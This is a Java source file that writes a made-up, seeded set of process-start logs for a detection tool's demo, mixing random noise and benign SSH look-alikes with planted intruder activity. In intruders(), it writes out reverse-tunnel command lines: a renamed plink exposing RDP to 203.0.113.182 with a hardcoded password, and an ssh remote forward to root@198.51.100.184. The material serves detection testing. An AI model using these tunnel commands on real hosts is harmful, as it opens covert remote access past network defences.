package dev.backflow.cli;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Comparator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.zip.GZIPOutputStream;

/**
 * Writes the export that {@code ./backflow demo} reads: 10,000 process starts of one morning on ten
 * hosts, in three formats. All of it is made up; the same seed writes the same bytes. To write it
 * anew: {@code mvn -q test-compile exec:java -Dexec.classpathScope=test
 * -Dexec.mainClass=dev.backflow.cli.MorningExport}.
 */
final class MorningExport {
  static final Path DIRECTORY = Path.of("examples", "morning");
  static final String PASSWORD = "W1nter!(2026)#";

  private static final Instant BEGIN = Instant.parse("2026-03-02T06:00:00Z");
  private static final int SECONDS = 6 * 3600;
  private static final int STARTS = 10_000;

  private final Random random = new Random(20260302);
  private final List<MorningStart> starts = new ArrayList<>();

  private MorningExport() {}

  public static void main(String[] args) throws IOException {
    Files.createDirectories(DIRECTORY);
    for (Map.Entry<String, String> file : files().entrySet()) {
      Files.write(DIRECTORY.resolve(file.getKey()), gzip(file.getValue()));
    }
  }

  /** Returns the export's files, unpacked, by name. */
  static Map<String, String> files() {
    MorningExport export = new MorningExport();
    export.intruders();
    export.lookAlikes();
    export.noise();
    return export.written();
  }

  private Map<String, String> written() {
    starts.sort(Comparator.comparing(MorningStart::time).thenComparing(MorningStart::commandLine));
    Map<String, StringBuilder> files = new LinkedHashMap<>();
    long record = 100_000;
    for (MorningStart start : starts) {
      record++;
      String line = start.render(record, 4_000 + random.nextInt(12_000), random.nextLong());
      files
          .computeIfAbsent(start.host().file(), f -> new StringBuilder())
          .append(line)
          .append('\n');
    }
    Map<String, String> out = new LinkedHashMap<>();
    files.forEach((name, text) -> out.put(name, text.toString()));
    return out;
  }

  private void intruders() {
    MorningHost finance = MorningHost.named("fin03.example.com");
    String plink =
        "C:\\ProgramData\\svcupd.exe -ssh -P 443 -l forward -pw "
            + PASSWORD
            + " -N -R 0.0.0.0:1251:127.0.0.1:3389 203.0.113.182";
    for (int minute : new int[] {131, 164, 290}) {
      add(finance, minute * 60 + 7, MorningProgram.RENAMED_PLINK, plink, MorningProgram.CMD);
    }
    MorningHost laptop = MorningHost.named("ws05.example.com");
    String socks =
        "C:\\Windows\\System32\\OpenSSH\\ssh.exe -N -o StrictHostKeyChecking=no"
            + " -R *:10400 root@198.51.100.184 -p 443";
    add(laptop, 148 * 60 + 31, MorningProgram.SSH, socks, MorningProgram.POWERSHELL);
  }

  private void lookAlikes() {
    String[] lines = {
      "ssh.exe deploy@build.example.com \"ls -R /srv/www\"",
      "ssh.exe deploy@build.example.com grep -R listen /etc/nginx",
      "ssh.exe -L 15432:db.example.com:5432 deploy@build.example.com",
      "ssh.exe -D 1080 -N deploy@build.example.com",
      "ssh.exe -o ClearAllForwardings=yes -R 8080:localhost:80 deploy@build.example.com",
      "ssh.exe -G -R 8080:localhost:80 build.example.com",
      "ssh.exe git@git.example.com \"git-upload-pack 'team/RemoteForward.git'\"",
      "ssh.exe -i \"C:\\Users\\dev\\keys -R old\\id_ed25519\" deploy@build.example.com",
    };
    MorningHost dev = MorningHost.named("dev01.example.com");
    for (int i = 0; i < lines.length; i++) {
      add(dev, 3_000 + i * 911, MorningProgram.SSH, lines[i], MorningProgram.POWERSHELL);
    }
    add(dev, 9_100, MorningProgram.CHMOD, "chmod.exe -R 755 www", MorningProgram.CMD);
    add(
        dev,
        9_900,
        MorningProgram.SCP,
        "scp.exe -r site deploy@build.example.com:/srv",
        MorningProgram.CMD);
    MorningHost files = MorningHost.named("dc01.example.com");
    add(
        files,
        4_200,
        MorningProgram.PLINK,
        "plink.exe -batch admin@switch01.example.com \"show run\"",
        MorningProgram.CMD);
    add(
        files,
        7_700,
        MorningProgram.ROBOCOPY,
        "robocopy.exe C:\\data D:\\backup /MIR /R:3 /W:5",
        MorningProgram.CMD);
  }

  private void noise() {
    while (starts.size() < STARTS) {
      MorningHost host = MorningHost.ALL.get(random.nextInt(MorningHost.ALL.size()));
      MorningProgram program =
          MorningProgram.NOISE.get(random.nextInt(MorningProgram.NOISE.size()));
      String line = program.typicalLine(random.nextInt(5_000));
      add(host, random.nextInt(SECONDS), program, line, program.typicalParent());
    }
  }

  private void add(
      MorningHost host, int second, MorningProgram program, String line, MorningProgram parent) {
    Instant time = BEGIN.plusSeconds(second).plusMillis(random.nextInt(1_000));
    starts.add(new MorningStart(host, time, program, line, parent));
  }

  private static byte[] gzip(String text) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    try (GZIPOutputStream gzip = new GZIPOutputStream(out)) {
      gzip.write(text.getBytes(StandardCharsets.UTF_8));
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
    return out.toByteArray();
  }
}
